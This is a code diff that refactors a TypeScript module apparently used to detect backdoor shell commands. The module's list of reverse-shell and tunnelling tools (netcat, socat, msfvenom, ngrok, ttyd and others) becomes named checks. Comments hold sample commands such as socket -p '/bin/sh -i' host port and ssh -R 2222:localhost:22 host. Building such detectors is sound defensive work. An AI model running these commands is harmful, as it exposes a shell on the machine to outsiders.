@@ -2,57 +2,36 @@ import { type Finding, finding } from '../effect.ts';
 import { place } from '../paths/places.ts';
 import type { Invocation } from '../programs/program.ts';
 import { SHELL_OUTPUT } from '../shell/marks.ts';
-import type { CheckChange, Facts, Rule } from './rule.ts';
+import type { CheckChange, Checks, Facts } from './rule.ts';
 
 /** A shell for somebody elsewhere, and ways to come back. */
-export const backdoorRules: readonly Rule[] = [
-  { programs: ['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'pwncat', 'rcat'], check: netcat },
-  {
-    programs: ['rcat', 'rustcat', 'pwncat', 'pwncat-cs', 'powercat'],
-    check: ({ args }) => (args.some((arg) => STARTS_SHELL.test(arg)) ? backdoor : undefined),
-  },
-  { programs: ['socat'], check: socat },
-  { programs: ['ngrok', 'bore', 'cloudflared', 'ssh', 'autossh'], check: opensLogin },
+export const backdoorRules: Checks<
+  | 'netcat'
+  | 'servesShell'
+  | 'socat'
+  | 'opensLogin'
+  | 'socketShell'
+  | 'shellIntoNetwork'
+  | 'shellOnSocket'
+  | 'awkShell'
+  | 'xterm'
+  | 'alwaysBackdoor'
+> = {
+  netcat,
+  servesShell: ({ args }) => (args.some((arg) => STARTS_SHELL.test(arg)) ? backdoor : undefined),
+  socat,
+  opensLogin,
   // `socket -p '/bin/sh -i' host port`
-  {
-    programs: ['socket'],
-    check: ({ args }) => (args.some((arg) => /^-\w*p/.test(arg)) ? backdoor : undefined),
-  },
-  {
-    programs: ['nc', 'ncat', 'netcat', 'telnet', 'openssl', 'socat', 'curl', 'ssh'],
-    check: shellIntoNetwork,
-  },
-  {
-    programs: ['bash', 'sh', 'zsh', 'dash', 'ksh', 'ash', 'fish', 'cmd', 'powershell'],
-    check: shellOnSocket,
-  },
-  { programs: ['awk', 'gawk', 'mawk'], check: awk },
-  {
-    programs: ['xterm'],
-    check: ({ args }) =>
-      args.some((arg, i) => args[i - 1] === '-display' && /^(?!localhost:|unix:)[\w.-]+:\d/.test(arg))
-        ? backdoor
-        : undefined,
-  },
-  {
-    programs: [
-      'ztcp',
-      'msfvenom',
-      'msfconsole',
-      'weevely',
-      'gs-netcat',
-      'gsocket',
-      'sshx',
-      'tmate',
-      'upterm',
-    ],
-    check: () => backdoor,
-  },
-  {
-    programs: ['ttyd', 'gotty', 'shellinaboxd', 'telnetd', 'in.telnetd', 'tcpserver', 'websocketd', 'wetty'],
-    check: ({ args }) => (args.some((arg) => STARTS_SHELL.test(arg)) ? backdoor : undefined),
-  },
-];
+  socketShell: ({ args }) => (args.some((arg) => /^-\w*p/.test(arg)) ? backdoor : undefined),
+  shellIntoNetwork,
+  shellOnSocket,
+  awkShell: awk,
+  xterm: ({ args }) =>
+    args.some((arg, i) => args[i - 1] === '-display' && /^(?!localhost:|unix:)[\w.-]+:\d/.test(arg))
+      ? backdoor
+      : undefined,
+  alwaysBackdoor: () => backdoor,
+};
 
 /** The port of `ssh` made reachable from elsewhere: `ngrok tcp 22`, `ssh -R 2222:localhost:22 host`. */
 function opensLogin({ name, args }: Invocation): Finding | undefined {
